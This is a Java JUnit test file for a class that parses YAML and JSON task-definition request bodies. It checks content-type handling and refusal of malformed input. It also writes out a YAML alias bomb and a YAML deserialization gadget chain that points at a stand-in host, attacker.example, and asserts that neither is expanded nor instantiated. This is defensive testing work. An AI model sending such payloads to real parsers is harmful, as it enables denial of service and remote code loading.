package io.mflow.task.adapter.rest;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.mflow.task.app.RequestRefused;
import org.junit.jupiter.api.Test;
import org.springframework.web.HttpMediaTypeNotSupportedException;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/** Definitions as bodies: which types are read as what, and what a hostile document gets. */
class DefinitionBodiesTest {

    private final DefinitionBodies documents = new DefinitionBodies(JsonMapper.builder().build());

    @Test
    void yamlAndJsonOfTheSameDocumentReadAlike() throws Exception {
        JsonNode fromYaml = read("name: build\nrunner_spec: make\n", "application/yaml; charset=utf-8");
        JsonNode fromJson = read("{\"name\": \"build\", \"runner_spec\": \"make\"}", "application/json");

        assertThat(fromYaml).isEqualTo(fromJson);
        assertThat(read("name: build\n", "text/x-yaml").get("name").asString()).isEqualTo("build");
    }

    @Test
    void aBodyOfAnotherTypeIsUnsupportedAndOneThatIsNoObjectIsRefused() {
        assertThatThrownBy(() -> read("name=build", "application/x-www-form-urlencoded"))
                .isInstanceOf(HttpMediaTypeNotSupportedException.class);
        assertThatThrownBy(() -> read("- a\n- b\n", "application/yaml")).isInstanceOf(RequestRefused.class)
                .hasMessage("the request body must be an object, not an array");
        assertThatThrownBy(() -> read("name: [unclosed\n", "application/yaml")).isInstanceOf(RequestRefused.class)
                .hasMessageStartingWith("the request body is not valid YAML at line");
    }

    @Test
    void aYamlBombOfAliasesIsNotExpandedIntoMemory() {
        StringBuilder bomb = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (char c = 'b'; c <= 'j'; c++) {
            char previous = (char) (c - 1);
            bomb.append(c).append(": &").append(c).append(" [*").append(previous).append(",*").append(previous)
                    .append(",*").append(previous).append(",*").append(previous).append(",*").append(previous)
                    .append(",*").append(previous).append(",*").append(previous).append(",*").append(previous)
                    .append(",*").append(previous).append("]\n");
        }
        bomb.append("name: build\n");

        try {
            JsonNode read = read(bomb.toString(), "application/yaml");
            assertThat(read.toString().length()).as("nine to the tenth lols were not made").isLessThan(100_000);
        } catch (RequestRefused refused) {
            assertThat(refused.getMessage()).startsWith("the request body is not valid YAML");
        } catch (Exception other) {
            throw new AssertionError(other);
        }
    }

    @Test
    void yamlTagsInstantiateNothing() throws Exception {
        JsonNode read = read("name: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
                + " [\"http://attacker.example/\"]]]]\n", "application/yaml");

        assertThat(read.get("name").isArray()).as("a tag is no type; the value is plain data").isTrue();
    }

    @Test
    void yamlIsAskedForOnlyWhenItIsPreferred() {
        assertThat(DefinitionBodies.wantsYaml("application/yaml")).isTrue();
        assertThat(DefinitionBodies.wantsYaml("application/json, application/yaml;q=0.5")).isFalse();
        assertThat(DefinitionBodies.wantsYaml("application/json;q=0.5, text/yaml")).isTrue();
        assertThat(DefinitionBodies.wantsYaml("*/*")).isFalse();
        assertThat(DefinitionBodies.wantsYaml(null)).isFalse();
    }

    private JsonNode read(String body, String type) throws HttpMediaTypeNotSupportedException {
        return documents.read(body, type, JsonNode.class, node -> false, null).request();
    }
}
